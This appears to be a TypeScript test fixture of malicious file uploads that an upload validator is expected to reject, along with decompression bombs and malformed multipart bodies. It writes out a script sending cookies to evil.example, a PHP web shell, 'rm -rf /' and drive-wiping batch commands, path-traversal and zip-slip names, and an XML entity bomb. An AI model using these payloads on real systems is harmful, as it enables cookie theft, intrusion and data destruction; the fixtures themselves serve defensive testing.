import { gzipSync } from 'node:zlib';
import type { Upload } from '../calling.ts';
import { pdf } from '../drafts.ts';
import { macroType, workbookOf, workbookType, zipOf } from './archive.ts';

const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const portableExecutable = Buffer.concat([Buffer.from('MZ\u0090\u0000', 'latin1'), Buffer.alloc(200, 7)]);
const linuxExecutable = Buffer.concat([
  Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'),
  Buffer.alloc(200),
]);
const bomb = workbookOf(workbookType, Buffer.alloc(400 * 1024 * 1024));

/** Files that no upload takes: what each is, and its name and content. */
export const hostileFiles: readonly [what: string, file: Upload][] = [
  ['a double extension', { name: '合同.pdf.exe', content: pdf }],
  ['a double extension the other way', { name: '合同.php.', content: '<?php system($_GET["c"]); ?>' }],
  ['an SVG with a script', { name: '图.svg', content: svg, mediaType: 'image/svg+xml' }],
  ['an SVG called PNG', { name: '图.png', content: svg, mediaType: 'image/png' }],
  ['HTML called PDF', { name: '合同.pdf', content: `<html>${script}</html>`, mediaType: 'application/pdf' }],
  ['HTML behind white space', { name: '合同.txt', content: `${' \n'.repeat(5_000)}<HTML>${script}` }],
  ['HTML in UTF-16', { name: '说明.txt', content: Buffer.from(`\ufeff<html>${script}`, 'utf16le') }],
  ['HTML before a PDF', { name: '合同.pdf', content: Buffer.concat([Buffer.from(`<html>${script}`), pdf]) }],
  ['PHP', { name: '合同.txt', content: '<?php phpinfo(); ?>' }],
  ['a Windows program called PNG', { name: '图.png', content: portableExecutable, mediaType: 'image/png' }],
  [
    'a Linux program called PDF',
    { name: '合同.pdf', content: linuxExecutable, mediaType: 'application/pdf' },
  ],
  ['a shell script', { name: '安装.sh', content: '#!/bin/sh\nrm -rf /\n' }],
  ['JavaScript', { name: '合同.js', content: 'alert(1)' }],
  ['a batch file', { name: '合同.bat', content: '@echo off\r\ndel /s /q c:\\\r\n' }],
  ['a path in the name, a program inside', { name: '../../../etc/cron.d/x', content: linuxExecutable }],
  ['a path of Windows in the name', { name: '..\\..\\autoexec.bat', content: '@echo off' }],
  ['a NUL in the name', { name: '合同.pdf\u0000.exe', content: portableExecutable }],
  ['a name that reads backwards', { name: '合同\u202efdp.exe', content: portableExecutable }],
  ['a huge name', { name: `${'长'.repeat(20_000)}.exe`, content: portableExecutable }],
  [
    'an archive called XLSX',
    { name: '表格.xlsx', content: zipOf([{ name: 'run.exe', content: portableExecutable }]) },
  ],
  [
    'a workbook with macros called XLSX',
    { name: '表格.xlsx', content: workbookOf(macroType, Buffer.from('<worksheet/>')) },
  ],
  [
    'an archive whose files climb out',
    { name: '表格.zip', content: zipOf([{ name: '../../x', content: pdf }]) },
  ],
  ['a packed file called PDF', { name: '合同.pdf', content: gzipSync(pdf) }],
  ['a GIF', { name: '图.png', content: Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1') }],
  [
    'an XML bomb',
    { name: '表格.xml', content: '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><l>&b;</l>' },
  ],
  ['nothing at all', { name: '合同.pdf', content: '' }],
  ['a PDF cut short in its mark', { name: '合同.pdf', content: '%PD' }],
];

/** Workbooks that unpack to far more than they are: for everything that reads tables. */
export const bombs: readonly [what: string, file: Upload][] = [
  ['a workbook that unpacks to 400 MB', { name: '表格.xlsx', content: bomb }],
  [
    'a workbook that lies about its size',
    {
      name: '表格.xlsx',
      content: workbookOf(workbookType, Buffer.from('<worksheet/>'), [
        { name: 'xl/sharedStrings.xml', content: Buffer.alloc(300 * 1024 * 1024), claimed_bytes: 10 },
      ]),
    },
  ],
];

/** Bodies that are no form: the type that they claim, and the bytes. */
export const brokenForms: readonly [what: string, type: string, payload: string][] = [
  ['no boundary', 'multipart/form-data', 'nothing'],
  ['a boundary that never comes', 'multipart/form-data; boundary=x', '--y\r\n\r\nz\r\n--y--\r\n'],
  [
    'a form cut short',
    'multipart/form-data; boundary=x',
    '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4',
  ],
  [
    'a field and no file',
    'multipart/form-data; boundary=x',
    '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--\r\n',
  ],
  ['JSON', 'application/json', '{"file":"a.pdf"}'],
  ['text', 'text/plain', 'a.pdf'],
  ['a bare PDF', 'application/pdf', '%PDF-1.4'],
];
